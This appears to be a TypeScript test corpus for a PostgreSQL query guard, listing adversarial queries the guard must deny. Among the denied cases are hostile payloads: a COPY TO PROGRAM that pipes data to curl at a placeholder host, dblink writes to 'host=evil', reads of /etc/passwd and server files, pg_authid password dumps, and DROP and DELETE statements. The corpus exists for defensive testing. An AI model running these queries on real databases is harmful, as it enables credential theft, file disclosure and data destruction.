import type { GuardRuleId } from '../guard-result.js';
import type { CorpusCase } from './corpus-case.js';

/** A query the guard must deny, and a rule that must be among the reasons. */
export type DeniedCase = CorpusCase & { rule: GuardRuleId };

/** Adversarial queries: every one must be denied with (at least) its `rule`. */
export const DENIED_CORPUS: readonly DeniedCase[] = [
  // ---- statement count: comments, quoting and dollar-quoting tricks --------------------------
  { name: 'empty string', sql: '', rule: 'single-statement' },
  { name: 'whitespace only', sql: '  \n\t ', rule: 'single-statement' },
  { name: 'comment only', sql: '-- SELECT 1', rule: 'single-statement' },
  { name: 'lone semicolon', sql: ';', rule: 'single-statement' },
  {
    name: 'second statement after a block comment',
    sql: 'SELECT 1; /* */ DROP TABLE x',
    rule: 'single-statement',
  },
  {
    name: 'semicolon inside a line comment, then a delete',
    sql: 'SELECT 1 -- ; harmless\n; DELETE FROM t',
    rule: 'single-statement',
  },
  { name: 'semicolon inside dollar quotes', sql: 'SELECT $$;$$; DELETE FROM t', rule: 'single-statement' },
  {
    name: 'tagged dollar quote holding $$ and a semicolon',
    sql: 'SELECT $tag$ $$; $tag$; DROP TABLE x',
    rule: 'single-statement',
  },
  { name: 'escaped quote in an E-string', sql: "SELECT E'\\';'; DROP TABLE x", rule: 'single-statement' },
  { name: 'nested block comments', sql: 'SELECT 1 /* a /* b */ c */; TRUNCATE t', rule: 'single-statement' },
  { name: 'two harmless selects', sql: 'SELECT 1; SELECT 2', rule: 'single-statement' },
  {
    name: 'delete hidden behind a leading comment',
    sql: '/* SELECT */ DELETE FROM t',
    rule: 'statement-kind',
  },

  // ---- statements other than SELECT -------------------------------------------------------------
  { name: 'INSERT', sql: 'INSERT INTO t VALUES (1)', rule: 'statement-kind' },
  { name: 'UPDATE', sql: 'UPDATE t SET a = 1', rule: 'statement-kind' },
  { name: 'DELETE', sql: 'DELETE FROM t WHERE id = 1', rule: 'statement-kind' },
  {
    name: 'MERGE',
    sql: 'MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE',
    rule: 'statement-kind',
  },
  { name: 'DROP TABLE', sql: 'DROP TABLE customers', rule: 'statement-kind' },
  { name: 'CREATE TABLE', sql: 'CREATE TABLE x (a int)', rule: 'statement-kind' },
  { name: 'CREATE TABLE AS', sql: 'CREATE TABLE x AS SELECT * FROM t', rule: 'statement-kind' },
  { name: 'ALTER TABLE', sql: 'ALTER TABLE t ADD COLUMN b int', rule: 'statement-kind' },
  { name: 'TRUNCATE', sql: 'TRUNCATE t', rule: 'statement-kind' },
  { name: 'GRANT', sql: 'GRANT ALL ON t TO PUBLIC', rule: 'statement-kind' },
  {
    name: 'CREATE FUNCTION',
    sql: "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
    rule: 'statement-kind',
  },
  { name: 'COPY TO a file', sql: "COPY t TO '/tmp/out.csv'", rule: 'statement-kind' },
  { name: 'COPY … PROGRAM', sql: "COPY (SELECT 1) TO PROGRAM 'curl -d @- http://x'", rule: 'statement-kind' },
  { name: 'COPY FROM STDIN', sql: 'COPY t FROM STDIN', rule: 'statement-kind' },
  { name: 'DO block', sql: 'DO $$ BEGIN PERFORM pg_sleep(1); END $$', rule: 'statement-kind' },
  { name: 'CALL a procedure', sql: 'CALL cleanup()', rule: 'statement-kind' },
  { name: 'SET', sql: 'SET search_path = evil, public', rule: 'statement-kind' },
  { name: 'SET LOCAL role', sql: 'SET LOCAL ROLE postgres', rule: 'statement-kind' },
  { name: 'RESET', sql: 'RESET ALL', rule: 'statement-kind' },
  { name: 'SHOW', sql: 'SHOW data_directory', rule: 'statement-kind' },
  { name: 'BEGIN', sql: 'BEGIN', rule: 'statement-kind' },
  { name: 'COMMIT', sql: 'COMMIT', rule: 'statement-kind' },
  { name: 'SET TRANSACTION READ WRITE', sql: 'SET TRANSACTION READ WRITE', rule: 'statement-kind' },
  { name: 'LISTEN', sql: 'LISTEN channel', rule: 'statement-kind' },
  { name: 'NOTIFY', sql: "NOTIFY channel, 'payload'", rule: 'statement-kind' },
  { name: 'UNLISTEN', sql: 'UNLISTEN *', rule: 'statement-kind' },
  { name: 'PREPARE', sql: 'PREPARE p AS DELETE FROM t', rule: 'statement-kind' },
  { name: 'EXECUTE', sql: 'EXECUTE p', rule: 'statement-kind' },
  { name: 'DEALLOCATE', sql: 'DEALLOCATE ALL', rule: 'statement-kind' },
  { name: 'EXPLAIN ANALYZE of a delete', sql: 'EXPLAIN ANALYZE DELETE FROM t', rule: 'statement-kind' },
  {
    name: 'EXPLAIN (ANALYZE) option form',
    sql: 'EXPLAIN (ANALYZE, BUFFERS) SELECT * FROM t',
    rule: 'statement-kind',
  },
  { name: 'plain EXPLAIN', sql: 'EXPLAIN SELECT * FROM t', rule: 'statement-kind' },
  { name: 'VACUUM', sql: 'VACUUM FULL t', rule: 'statement-kind' },
  { name: 'ANALYZE', sql: 'ANALYZE t', rule: 'statement-kind' },
  { name: 'CLUSTER', sql: 'CLUSTER t USING t_pkey', rule: 'statement-kind' },
  { name: 'REINDEX', sql: 'REINDEX TABLE t', rule: 'statement-kind' },
  { name: 'CHECKPOINT', sql: 'CHECKPOINT', rule: 'statement-kind' },
  { name: 'LOAD a library', sql: "LOAD '/tmp/evil.so'", rule: 'statement-kind' },
  { name: 'LOCK TABLE', sql: 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', rule: 'statement-kind' },
  { name: 'DECLARE CURSOR', sql: 'DECLARE c CURSOR FOR SELECT * FROM t', rule: 'statement-kind' },
  { name: 'ALTER SYSTEM', sql: "ALTER SYSTEM SET log_statement = 'none'", rule: 'statement-kind' },
  { name: 'DISCARD', sql: 'DISCARD ALL', rule: 'statement-kind' },
  { name: 'REFRESH MATERIALIZED VIEW', sql: 'REFRESH MATERIALIZED VIEW mv', rule: 'statement-kind' },

  // ---- writes hidden in CTEs and subqueries -----------------------------------------------------
  {
    name: 'DELETE in a CTE',
    sql: 'WITH x AS (DELETE FROM t RETURNING *) SELECT * FROM x',
    rule: 'data-modifying-cte',
  },
  {
    name: 'INSERT in an unused CTE',
    sql: 'WITH x AS (INSERT INTO audit VALUES (1) RETURNING 1) SELECT 1',
    rule: 'data-modifying-cte',
  },
  {
    name: 'UPDATE in a CTE after a harmless one',
    sql: 'WITH a AS (SELECT 1), b AS (UPDATE t SET x = 0 RETURNING x) SELECT * FROM a, b',
    rule: 'data-modifying-cte',
  },
  {
    name: 'MERGE in a CTE',
    sql: 'WITH x AS (MERGE INTO t USING u ON t.id = u.id WHEN MATCHED THEN DELETE RETURNING t.id) SELECT 1',
    rule: 'data-modifying-cte',
  },
  {
    name: 'DELETE in a CTE inside a FROM subquery',
    sql: 'SELECT * FROM (WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d) s',
    rule: 'data-modifying-cte',
  },
  {
    name: 'DELETE in a CTE inside an EXISTS subquery',
    sql: 'SELECT 1 WHERE EXISTS (WITH d AS (DELETE FROM t RETURNING 1) SELECT 1 FROM d)',
    rule: 'data-modifying-cte',
  },
  {
    name: 'DELETE in a CTE nested inside another CTE',
    sql: 'WITH outer_cte AS (WITH inner_cte AS (DELETE FROM t RETURNING id) SELECT id FROM inner_cte) SELECT * FROM outer_cte',
    rule: 'data-modifying-cte',
  },
  {
    name: 'DELETE in a recursive WITH',
    sql: 'WITH RECURSIVE d AS (DELETE FROM t RETURNING id) SELECT * FROM d',
    rule: 'data-modifying-cte',
  },
  { name: 'SELECT INTO', sql: 'SELECT * INTO stolen FROM customers', rule: 'select-into' },
  { name: 'SELECT INTO TEMP', sql: 'SELECT id INTO TEMP t2 FROM t', rule: 'select-into' },
  { name: 'FOR UPDATE', sql: 'SELECT * FROM t FOR UPDATE', rule: 'locking-clause' },
  { name: 'FOR SHARE SKIP LOCKED', sql: 'SELECT * FROM t FOR SHARE SKIP LOCKED', rule: 'locking-clause' },
  {
    name: 'FOR NO KEY UPDATE in a subquery',
    sql: 'SELECT * FROM (SELECT * FROM t FOR NO KEY UPDATE NOWAIT) s',
    rule: 'locking-clause',
  },
  {
    name: 'FOR KEY SHARE OF one table',
    sql: 'SELECT * FROM t JOIN u ON t.id = u.id FOR KEY SHARE OF t',
    rule: 'locking-clause',
  },

  // ---- dangerous functions: name spellings --------------------------------------------------------
  { name: 'pg_sleep', sql: 'SELECT pg_sleep(10)', rule: 'denied-function' },
  {
    name: 'schema-qualified pg_catalog.pg_sleep',
    sql: 'SELECT pg_catalog.pg_sleep(1)',
    rule: 'denied-function',
  },
  { name: 'quoted "pg_sleep"', sql: 'SELECT "pg_sleep"(1)', rule: 'denied-function' },
  { name: 'quoted schema and name', sql: 'SELECT "pg_catalog"."pg_sleep"(1)', rule: 'denied-function' },
  { name: 'upper-case unquoted PG_SLEEP', sql: 'SELECT PG_SLEEP(1)', rule: 'denied-function' },
  { name: 'mixed-case quoted "Pg_Sleep"', sql: 'SELECT "Pg_Sleep"(1)', rule: 'denied-function' },
  { name: 'Unicode escape U&"pg_\\0073leep"', sql: 'SELECT U&"pg_\\0073leep"(1)', rule: 'denied-function' },
  {
    name: 'Unicode escape with UESCAPE',
    sql: 'SELECT U&"!0070g_sleep" UESCAPE \'!\'(1)',
    rule: 'denied-function',
  },
  {
    name: 'comments between schema and name',
    sql: 'SELECT pg_catalog/**/./**/pg_sleep(1)',
    rule: 'denied-function',
  },
  { name: 'look-alike in another schema', sql: 'SELECT myschema.pg_sleep(1)', rule: 'denied-function' },
  { name: 'pg_sleep_for', sql: "SELECT pg_sleep_for('5 minutes')", rule: 'denied-function' },

  // ---- dangerous functions: every clause ------------------------------------------------------------
  { name: 'in WHERE', sql: 'SELECT * FROM t WHERE pg_sleep(1) IS NOT NULL', rule: 'denied-function' },
  {
    name: 'in JOIN … ON',
    sql: 'SELECT * FROM t JOIN u ON pg_advisory_lock(1) IS NOT NULL',
    rule: 'denied-function',
  },
  { name: 'in GROUP BY', sql: "SELECT count(*) FROM t GROUP BY nextval('s')", rule: 'denied-function' },
  {
    name: 'in HAVING',
    sql: "SELECT a FROM t GROUP BY a HAVING count(pg_read_file('/etc/passwd')) > 0",
    rule: 'denied-function',
  },
  { name: 'in ORDER BY', sql: 'SELECT a FROM t ORDER BY pg_sleep(1)', rule: 'denied-function' },
  {
    name: 'in LIMIT through a scalar subquery',
    sql: "SELECT a FROM t LIMIT (SELECT length(pg_read_file('postgresql.conf')))",
    rule: 'denied-function',
  },
  { name: 'in OFFSET', sql: "SELECT a FROM t OFFSET setval('s', 1)", rule: 'denied-function' },
  {
    name: 'in a window ORDER BY',
    sql: "SELECT sum(a) OVER (ORDER BY set_config('role', 'postgres', false)) FROM t",
    rule: 'denied-function',
  },
  {
    name: 'in a named WINDOW clause',
    sql: "SELECT rank() OVER w FROM t WINDOW w AS (PARTITION BY lo_import('/etc/passwd'))",
    rule: 'denied-function',
  },
  {
    name: 'in a LATERAL subquery',
    sql: "SELECT * FROM t, LATERAL (SELECT pg_read_file('/etc/passwd')) x",
    rule: 'denied-function',
  },
  { name: 'as a function scan in FROM', sql: "SELECT * FROM pg_ls_dir('.') AS f", rule: 'denied-function' },
  {
    name: 'inside ROWS FROM',
    sql: "SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS r(a, b)",
    rule: 'denied-function',
  },
  {
    name: 'in a VALUES list',
    sql: 'VALUES (1), (pg_backend_pid() + txid_current())',
    rule: 'denied-function',
  },
  {
    name: 'in VALUES inside FROM',
    sql: "SELECT * FROM (VALUES (dblink('host=evil', 'SELECT 1'))) v(a)",
    rule: 'denied-function',
  },
  {
    name: 'in a CASE branch',
    sql: 'SELECT CASE WHEN a > 0 THEN pg_terminate_backend(1) END FROM t',
    rule: 'denied-function',
  },
  {
    name: 'in COALESCE arguments',
    sql: 'SELECT COALESCE(a, pg_cancel_backend(1)::int) FROM t',
    rule: 'denied-function',
  },
  { name: 'inside CAST', sql: "SELECT CAST(pg_read_binary_file('x') AS text)", rule: 'denied-function' },
  { name: 'under a :: cast', sql: "SELECT pg_stat_file('base')::text", rule: 'denied-function' },
  {
    name: 'in an aggregate FILTER',
    sql: 'SELECT count(*) FILTER (WHERE pg_sleep(1) IS NULL) FROM t',
    rule: 'denied-function',
  },
  {
    name: 'in an aggregate ORDER BY',
    sql: "SELECT string_agg(a, ',' ORDER BY pg_notify('c', 'x')) FROM t",
    rule: 'denied-function',
  },
  { name: 'in an array subscript', sql: "SELECT (ARRAY[1, 2])[nextval('s')]", rule: 'denied-function' },
  { name: 'in an IN list', sql: "SELECT * FROM t WHERE a IN (1, currval('s'))", rule: 'denied-function' },
  { name: 'in a scalar subquery', sql: 'SELECT (SELECT pg_reload_conf())', rule: 'denied-function' },
  {
    name: 'in an EXISTS subquery',
    sql: "SELECT 1 WHERE EXISTS (SELECT lo_export(1, '/tmp/x'))",
    rule: 'denied-function',
  },
  {
    name: 'three subqueries deep',
    sql: 'SELECT * FROM (SELECT * FROM (SELECT pg_rotate_logfile()) a) b',
    rule: 'denied-function',
  },
  {
    name: 'in a CTE body',
    sql: 'WITH x AS (SELECT pg_switch_wal()) SELECT * FROM x',
    rule: 'denied-function',
  },
  {
    name: 'in a UNION branch',
    sql: "SELECT 'a' UNION ALL SELECT pg_export_snapshot()",
    rule: 'denied-function',
  },
  { name: 'in a ROW constructor', sql: 'SELECT ROW(1, txid_current())', rule: 'denied-function' },
  {
    name: 'current_setting inside json_build_object',
    sql: "SELECT json_build_object('k', current_setting('app.jwt_secret'))",
    rule: 'denied-function',
  },
  {
    name: 'query_to_xml feeding XMLTABLE',
    sql: "SELECT * FROM XMLTABLE('/r' PASSING query_to_xml('SELECT * FROM secrets', true, true, '') COLUMNS a text)",
    rule: 'denied-function',
  },
  { name: 'in DISTINCT ON', sql: 'SELECT DISTINCT ON (pg_sleep(1)) a FROM t', rule: 'denied-function' },
  {
    name: 'in TABLESAMPLE arguments',
    sql: "SELECT * FROM t TABLESAMPLE bernoulli (nextval('s')) REPEATABLE (1)",
    rule: 'denied-function',
  },
  {
    name: 'as a named argument',
    sql: "SELECT make_interval(days => nextval('s')::int)",
    rule: 'denied-function',
  },
  {
    name: 'table_to_xml inside xmlelement',
    sql: "SELECT xmlelement(name a, table_to_xml('pg_authid', true, false, ''))",
    rule: 'denied-function',
  },
  {
    name: 'dblink in FROM running a write remotely',
    sql: "SELECT * FROM dblink('host=evil', 'DELETE FROM t') AS x(a int)",
    rule: 'denied-function',
  },
  { name: 'dblink_exec', sql: "SELECT dblink_exec('host=x', 'DROP TABLE t')", rule: 'denied-function' },
  { name: 'lo_import', sql: "SELECT lo_import('/etc/passwd')", rule: 'denied-function' },
  { name: 'lo_get', sql: 'SELECT lo_get(16384)', rule: 'denied-function' },
  {
    name: 'set_config',
    sql: "SELECT pg_catalog.set_config('search_path', 'evil', false)",
    rule: 'denied-function',
  },
  {
    name: 'crosstab runs SQL text',
    sql: "SELECT * FROM crosstab('SELECT 1, 2, 3') AS c(a int, b int)",
    rule: 'denied-function',
  },
  {
    name: 'ts_stat runs SQL text',
    sql: "SELECT * FROM ts_stat('SELECT body FROM secrets')",
    rule: 'denied-function',
  },
  { name: 'pg_try_advisory_lock', sql: 'SELECT pg_try_advisory_lock(42)', rule: 'denied-function' },
  {
    name: 'pg_logical_emit_message',
    sql: "SELECT pg_logical_emit_message(true, 'p', 'x')",
    rule: 'denied-function',
  },
  {
    name: 'in a JSON_ARRAY subquery',
    sql: 'SELECT JSON_ARRAY(SELECT pg_sleep(1)::text)',
    rule: 'denied-function',
  },
  {
    name: 'extra deny entry from the configuration',
    sql: 'SELECT md5(email) FROM customers',
    rule: 'denied-function',
    options: { denyFunctions: ['md5'] },
  },
  {
    name: 'function outside the allowlist',
    sql: 'SELECT upper(name) FROM customers',
    rule: 'function-not-allowed',
    options: { allowFunctions: ['lower', 'count'] },
  },
  {
    name: 'allowlisted name in another schema',
    sql: 'SELECT evil.lower(name) FROM customers',
    rule: 'function-not-allowed',
    options: { allowFunctions: ['lower'] },
  },

  // ---- catalogs that expose secrets --------------------------------------------------------------------
  { name: 'pg_authid', sql: 'SELECT rolname, rolpassword FROM pg_authid', rule: 'sensitive-catalog' },
  { name: 'pg_catalog.pg_shadow', sql: 'SELECT * FROM pg_catalog.pg_shadow', rule: 'sensitive-catalog' },
  { name: 'quoted upper-case "PG_AUTHID"', sql: 'SELECT * FROM "PG_AUTHID"', rule: 'sensitive-catalog' },
  {
    name: 'pg_user_mappings in a CTE',
    sql: 'WITH m AS (SELECT umoptions FROM pg_user_mappings) SELECT * FROM m',
    rule: 'sensitive-catalog',
  },
  {
    name: 'information_schema.user_mapping_options',
    sql: 'SELECT option_value FROM information_schema.user_mapping_options',
    rule: 'sensitive-catalog',
  },
  { name: 'pg_largeobject', sql: 'SELECT data FROM pg_largeobject', rule: 'sensitive-catalog' },
  {
    name: 'pg_stats sample values in a scalar subquery',
    sql: "SELECT (SELECT most_common_vals::text FROM pg_stats WHERE attname = 'ssn')",
    rule: 'sensitive-catalog',
  },
  {
    name: 'pg_settings',
    sql: "SELECT setting FROM pg_settings WHERE name = 'data_directory'",
    rule: 'sensitive-catalog',
  },
  { name: 'pg_stat_activity', sql: 'SELECT query FROM pg_stat_activity', rule: 'sensitive-catalog' },

  // ---- fail closed --------------------------------------------------------------------------------------
  { name: 'DEFAULT inside VALUES', sql: 'VALUES (DEFAULT)', rule: 'unclassified' },
  { name: 'merge_action() outside MERGE', sql: 'SELECT merge_action()', rule: 'unclassified' },
  {
    name: 'unknown TABLESAMPLE method',
    sql: 'SELECT * FROM t TABLESAMPLE evil_method (10)',
    rule: 'unclassified',
  },
];
